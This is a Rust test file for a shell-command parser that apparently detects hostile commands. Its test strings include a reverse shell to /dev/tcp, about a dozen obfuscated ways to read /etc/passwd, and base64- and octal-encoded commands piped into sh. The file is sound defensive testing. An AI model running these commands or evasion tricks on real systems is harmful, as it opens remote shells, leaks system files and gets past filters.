//! Texts, and what is read in them.

use super::*;

fn plain(text: &str) -> Reading {
    read(text, std::iter::empty())
}

#[track_caller]
fn commands(text: &str, wanted: &[&str]) {
    assert_eq!(plain(text).commands, wanted, "{text}");
}

#[test]
fn separators_quotes_and_substitutions() {
    commands("a b; c && d || e | f & g", &["a b", "c", "d", "e", "f", "g"]);
    commands("echo 'a; b' \"c | d\" e\\;f", &["echo a; b c | d e;f"]);
    commands("x $(y `z 1` 2) \"$(w)\"", &["x", "y  2", "z 1", "w"]);
    commands("/usr/bin/env A=1 b > out 2>&1 < in", &["env A=1 b > out 2>& 1 < in"]);
    commands("if a; then b; fi; for x in 1 2; do c; done", &["a", "b", "for x in 1 2", "c"]);
    commands("f() { a; }; (b; c)", &["a", "b", "c"]);
    commands("a # b; c\nd", &["a", "d"]);
    commands("cat <<E; b\nx; y\nE\nc", &["cat", "b", "c"]);
    commands("diff <(a) >(b)", &["diff /dev/fd/63 /dev/fd/63", "a", "b"]);
    commands("bash -i >& /dev/tcp/10.0.0.1/80 0>&1", &["bash -i >& /dev/tcp/10.0.0.1/80 0>& 1"]);
}

#[test]
fn tricks_are_taken_away() {
    for text in [
        "c'a't /etc/passwd",
        "c\"a\"t /etc/passwd",
        "c''at /etc/passwd",
        "c\\at /etc/passwd",
        "ca$@t /etc/passwd",
        "cat${IFS}/etc/passwd",
        "cat$IFS$9/etc/passwd",
        "{cat,/etc/passwd}",
        "$'\\x63at' /etc/passwd",
        "/???/c?t /etc/passwd",
        "/bin/cat /e*c/p*sswd",
        "${PATH:0:1}bin/cat /etc/passwd",
        "/bin$u/cat$u /etc$u/passwd$u",
    ] {
        commands(text, &["cat /etc/passwd"]);
    }
    commands("a=who;b=ami;$a$b", &["a=who", "b=ami", "whoami"]);
    commands("$(rev<<<imaohw)", &["whoami", "rev"]);
    commands("$(echo d2hvYW1p|base64 -d)", &["whoami", "echo d2hvYW1p", "base64 -d"]);
    commands("echo aWQ= | base64 -d | sh", &["echo aWQ=", "base64 -d", "sh", "id"]);
    commands("printf '\\151\\144'|sh", &["printf \\151\\144", "sh", "id"]);
    commands("eval 'a;b'; sh -c \"c d\"", &["eval a;b", "sh -c c d", "a", "b", "c d"]);
}

#[test]
fn what_is_no_shell_is_read_as_far_as_it_goes() {
    for text in [
        "'",
        "\"",
        "`",
        "$(",
        "${",
        "((",
        "))",
        ";;;",
        "|",
        "<",
        ">&",
        "a'b\"c`d$(e",
        "$((",
        "\\",
        "<<",
        "{a,",
        "$'\\x",
    ] {
        let _ = plain(text);
    }
    let deep = "$(".repeat(5000);
    assert!(plain(&deep).commands.len() <= MAX_COMMANDS);
    let many = "a;".repeat(100_000);
    assert!(plain(&many).commands.len() <= MAX_COMMANDS);
}

#[test]
fn the_text_of_a_shell_is_found() {
    let of = |argv: &[&str]| {
        let argv: Vec<String> = argv.iter().map(|arg| (*arg).to_owned()).collect();
        text_of(&argv).map(str::to_owned)
    };
    assert_eq!(of(&["/bin/sh", "-c", "x"]).as_deref(), Some("x"));
    assert_eq!(of(&["bash", "-lc", "x", "y"]).as_deref(), Some("x"));
    assert_eq!(of(&["bash", "-e", "-o", "pipefail", "-c", "x"]).as_deref(), Some("x"));
    assert_eq!(of(&["sh", "-c", "-e", "x"]).as_deref(), Some("x"));
    assert_eq!(of(&["busybox", "sh", "-c", "x"]).as_deref(), Some("x"));
    assert_eq!(of(&["su", "root", "-c", "x"]).as_deref(), Some("x"));
    assert_eq!(of(&["sh", "x.sh", "-c", "x"]), None);
    assert_eq!(of(&["python3", "-c", "x"]), None);
}

/// Every payload in every place that data is put: a sign, or the commands of a rule, for at least 96 of 100.
#[test]
fn payloads_are_seen() {
    let payloads = include_str!("../../../tests/shell/payloads.txt").lines();
    let (mut seen, mut missed) = (0, Vec::new());
    for payload in payloads {
        for host in include_str!("../../../tests/shell/hosts.txt").lines() {
            let text = host.replace('@', payload);
            if plain(&text).signs.is_empty() {
                missed.push(text);
            } else {
                seen += 1;
            }
        }
    }
    assert!(seen * 4 >= missed.len() * 96, "{seen} seen, {} missed:\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn what_builds_say_is_no_sign() {
    for text in include_str!("../../../tests/shell/benign.txt").lines() {
        let reading = plain(text);
        assert!(reading.signs.is_empty(), "{text}: {reading:?}");
    }
}
